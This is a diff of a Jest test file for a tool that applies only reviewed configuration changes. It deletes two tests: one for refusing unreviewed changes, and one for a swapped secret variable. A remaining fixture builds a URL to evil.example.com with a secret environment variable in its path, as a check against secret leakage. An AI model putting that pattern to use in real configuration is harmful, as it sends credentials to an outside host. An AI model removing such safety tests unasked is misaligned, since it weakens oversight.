@@ -63,18 +63,6 @@ describe('an apply of reviewed changes', () => {
   const before = { schedules: { a: schedule('A'), b: schedule('B'), c: schedule('C') } };
   const [a2, b2] = [{ a: schedule('A2') }, { b: schedule('B2') }];
 
-  it('a change that is not in the list is refused with its address before any request', async () => {
-    const made = await applied(before);
-    const digests = await reviewOf(made, { schedules: { ...before.schedules, ...a2 } });
-    declare(made, { schedules: { ...before.schedules, ...a2, ...b2 } });
-    expect(await refused(made, digests)).toMatchObject({
-      code: 'not-reviewed',
-      message: 'schedules.b will be updated in place, and that is not among the reviewed changes.',
-      hint: expect.stringContaining('almanac plan'),
-      addresses: ['schedules.b'],
-    });
-  });
-
   it('a refusal names the first change and counts the others, and programs get every address', async () => {
     const made = await applied(before);
     declare(made, { schedules: { ...a2, ...b2 } });
@@ -162,7 +150,6 @@ describe('a secret with another value', () => {
   });
 
   it.each<[string, JsonObject, JsonObject, Record<string, string>]>([
-    ['another variable', sftp('S', '${env.HOOK}'), sftp('S', '${env.OTHER}'), { HOOK: 'one', OTHER: 'two' }],
     ['another text in a URL', hooked('S'), schedule('S', { url: 'https://evil.example.com/${env.HOOK}' }), two],
     ['another text that is written in the file', sftp('S', 'first'), sftp('S', 'second'), one],
     ['text that is added beside a variable', sftp('S', '${env.HOOK}'), sftp('S', 'x${env.HOOK}'), one],
